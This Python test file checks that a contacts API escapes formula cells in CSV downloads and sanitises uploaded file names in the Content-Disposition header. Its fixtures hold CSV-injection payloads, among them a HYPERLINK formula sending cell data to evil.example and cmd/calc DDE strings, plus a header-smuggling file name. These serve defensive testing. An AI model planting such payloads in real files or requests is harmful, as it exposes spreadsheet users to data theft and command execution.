"""Attacks on the CSV files people download: formulas planted in an upload, a hostile upload name.

An import's failed rows come back as CSV: a cell an attacker put there (``=HYPERLINK(...)``) must
open in a spreadsheet as text, as the contacts export already did. The upload's file name is part
of the download's name: it must not add parameters to Content-Disposition or break it.
"""
import csv
import io
from urllib.parse import quote

import pytest
from werkzeug.http import parse_options_header

from tests.api_helpers import key_headers, make_key
from tests.factories import ContactFactory

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3",
            "\t=1+1", "\r=1+1"]
PLANTED = ("email,=cmd|' /C calc'!A0,notes\n"
           + "".join(f'not-an-email-{i},"{value.replace(chr(34), chr(34) * 2)}",x\n' for i, value in enumerate(FORMULAS))
           + "ok@example.com,fine,+14155550101\n").encode()
HOSTILE_NAME = 'Kunden "VIP"; filename=evil.exe; ünïcödé.csv'


def multipart(content, filename):
    """A form with the file ``content`` named ``filename`` as any HTTP client may send it (RFC 7578's
    ``filename*``: quotes, semicolons and all, which the test client's own encoding would drop)."""
    boundary = "nudge-test-boundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"upload.csv\"; "
            f"filename*=UTF-8''{quote(filename)}\r\nContent-Type: text/csv\r\n\r\n").encode()
    return body + content + f"\r\n--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def start_import(client, headers, content, filename="contacts.csv"):
    body, content_type = multipart(content, filename)
    response = client.post("/api/v1/contacts/import", headers=headers, content_type=content_type, data=body)
    assert response.status_code == 202, response.json
    return response.json["data"]


@pytest.fixture
def api_headers(owner):
    return key_headers(make_key(owner))


def failed_row_downloads(client, owner_client, api_headers, content, filename="contacts.csv"):
    data = start_import(client, api_headers, content, filename)
    return [client.get(data["attributes"]["failed_rows_url"], headers=api_headers, buffered=True),
            owner_client.get(f"/contacts/import/{data['id']}/failed-rows.csv", buffered=True)]


def test_formulas_planted_in_an_import_come_back_as_text(client, owner_client, api_headers):
    for download in failed_row_downloads(client, owner_client, api_headers, PLANTED):
        rows = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
        assert rows[0][3] == "'=cmd|' /C calc'!A0"  # the header row too
        planted = [row[3] for row in rows[1:]]
        assert planted == ["'" + value for value in FORMULAS]
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_every_csv_download_escapes_the_same_way(client, owner_client, api_headers, organization):
    ContactFactory(organization=organization, email="eve@example.com", first_name="=1+1", company_name="@evil")
    page = owner_client.get("/contacts/export.csv", buffered=True).get_data(as_text=True)
    job = client.post("/api/v1/contacts/export", headers=api_headers, json={"fields": ["email", "first_name"]})
    api = client.get(job.json["data"]["links"]["download"], headers=api_headers, buffered=True).get_data(as_text=True)
    assert "'=1+1" in page and "'@evil" in page and "'=1+1" in api
    assert ",=1+1" not in page + api and ",@evil" not in page


def test_an_uploaded_file_name_cannot_break_content_disposition(client, owner_client, api_headers):
    content = b"email\nnot-an-email\n"
    for download in failed_row_downloads(client, owner_client, api_headers, content, HOSTILE_NAME):
        header = download.headers["Content-Disposition"]
        assert header.isascii() and "\r" not in header and "\n" not in header
        value, options = parse_options_header(header)
        assert value == "attachment"
        # RFC 6266: filename* carries the exact name; the plain filename is only a fallback.
        assert options == {"filename": 'Kunden "VIP"; filename=evil.exe; ünïcödé-failed-rows.csv'}
        assert "filename*=UTF-8''Kunden%20%22VIP%22%3B%20filename%3Devil.exe%3B%20" in header
